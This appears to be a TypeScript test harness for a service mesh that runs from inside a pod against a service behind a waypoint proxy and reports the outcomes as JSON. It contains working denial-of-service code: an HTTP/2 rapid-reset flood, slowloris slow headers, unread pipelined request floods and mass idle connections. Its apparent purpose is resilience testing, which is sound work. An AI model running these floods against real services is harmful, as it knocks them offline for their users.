// Floods of a client that the mesh knows, against a service behind a waypoint: node waypoint-attacker.ts HOST. Runs inside a pod;
// prints what became of each as JSON.
import net from 'node:net'
import { CLIENT_PREFACE, encodeFrame, FrameDecoder, FrameType as T } from '../../hbone/frame.ts'
import { headers, settings, word } from './raw-h2.ts'

/** What became of them. */
export interface AttackReport {
  /** Until the waypoint ended the connection on which streams were opened and reset, and how many were sent by then; undefined = it did not. */
  readonly reset: { readonly ms: number; readonly streams: number } | undefined
  /** First lines of the answers to heads that never end -> how many. */
  readonly slowHeads: Readonly<Record<string, number>>
  /** Requests of pipelines that were taken from this side, of those which were made. */
  readonly pipelined: readonly [taken: number, made: number]
  /** Connections that were opened and said nothing. */
  readonly silent: number
}

const HTTP_PORT = 80
/** A port of no known protocol: what is spoken is found out. */
const ANY_PORT = 8081
const FLOOD_MS = 4000
const SLOW_HEADS = 200
const SLOW_MS = 20_000
const BYTE_EVERY_MS = 200
const PIPELINES = 10
const PIPELINED = 5000
const SILENT = 500
const SILENT_MS = 3000

const pause = (ms: number): Promise<void> => new Promise((resolve) => setTimeout(resolve, ms))

async function dial(host: string, port: number): Promise<net.Socket> {
  const socket = net.connect(port, host)
  socket.on('error', () => socket.destroy())
  await new Promise<void>((resolve, reject) => socket.once('connect', resolve).once('close', () => reject(new Error('refused'))))
  return socket
}

async function rapidReset(host: string): Promise<AttackReport['reset']> {
  const socket = await dial(host, ANY_PORT)
  let isEnded = false
  const end = (): void => {
    isEnded = true
  }
  const ignore = (): undefined => undefined
  const decoder = new FrameDecoder(
    {
      onDataStart: () => true,
      onDataBytes: ignore,
      onDataEnd: ignore,
      onFrame: (type) => type === T.goAway && end(),
      onFault: end,
    },
    1 << 20,
  )
  socket.on('data', (chunk: Buffer) => decoder.push(chunk)).on('close', end)
  socket.write(Buffer.concat([CLIENT_PREFACE, settings(), encodeFrame(T.settings, 1, 0)]))
  let streams = 0
  const begunMs = performance.now()
  for (const endMs = performance.now() + FLOOD_MS; !isEnded && performance.now() < endMs; streams++) {
    const head = headers(2 * streams + 1, [
      [':method', 'GET'],
      [':scheme', 'http'],
      [':authority', host],
      [':path', '/'],
    ])
    socket.write(Buffer.concat([head, word(T.rstStream, 2 * streams + 1, 8)]))
    if (streams % 50 === 0) await pause(1)
  }
  socket.destroy()
  return isEnded ? { ms: Math.round(performance.now() - begunMs), streams } : undefined
}

async function slowHeads(host: string): Promise<Record<string, number>> {
  const answers: Record<string, number> = {}
  const one = async (): Promise<void> => {
    const socket = await dial(host, HTTP_PORT)
    let text = ''
    socket.on('data', (chunk: Buffer) => {
      text += chunk.toString('latin1')
    })
    const timer = setInterval(() => socket.write('a'), BYTE_EVERY_MS)
    socket.write('GET / HTTP/1.1\r\nHost: h\r\nX: ')
    const closed = new Promise((resolve) => socket.once('close', resolve).once('end', resolve))
    await Promise.race([closed, pause(SLOW_MS)])
    clearInterval(timer)
    socket.destroy()
    const line = text.split('\r\n', 1)[0] ?? ''
    answers[line] = (answers[line] ?? 0) + 1
  }
  await Promise.all(Array.from({ length: SLOW_HEADS }, one))
  return answers
}

/** Asks and asks, and reads no answer. */
async function pipelines(host: string): Promise<[number, number]> {
  const request = Buffer.from(`GET /big HTTP/1.1\r\nHost: ${host}\r\nX: ${'a'.repeat(900)}\r\n\r\n`)
  let taken = 0
  const one = async (): Promise<void> => {
    const socket = await dial(host, HTTP_PORT)
    socket.pause()
    socket.write(Buffer.concat(Array.from({ length: PIPELINED }, () => request)))
    await pause(FLOOD_MS)
    taken += Math.floor((socket.bytesWritten - socket.writableLength) / request.length)
    socket.destroy()
  }
  await Promise.all(Array.from({ length: PIPELINES }, one))
  return [taken, PIPELINES * PIPELINED]
}

async function silent(host: string): Promise<number> {
  const sockets = await Promise.all(Array.from({ length: SILENT }, (_, index) => dial(host, index % 2 === 0 ? HTTP_PORT : ANY_PORT)))
  await pause(SILENT_MS)
  for (const socket of sockets) socket.destroy()
  return sockets.length
}

if (import.meta.main) {
  const host = process.argv[2] ?? ''
  const [slow, rest] = await Promise.all([
    slowHeads(host),
    (async () => [await rapidReset(host), await pipelines(host), await silent(host)] as const)(),
  ])
  const [reset, pipelined, opened] = rest
  console.log(JSON.stringify({ reset, slowHeads: slow, pipelined, silent: opened } satisfies AttackReport))
  process.exit(0)
}
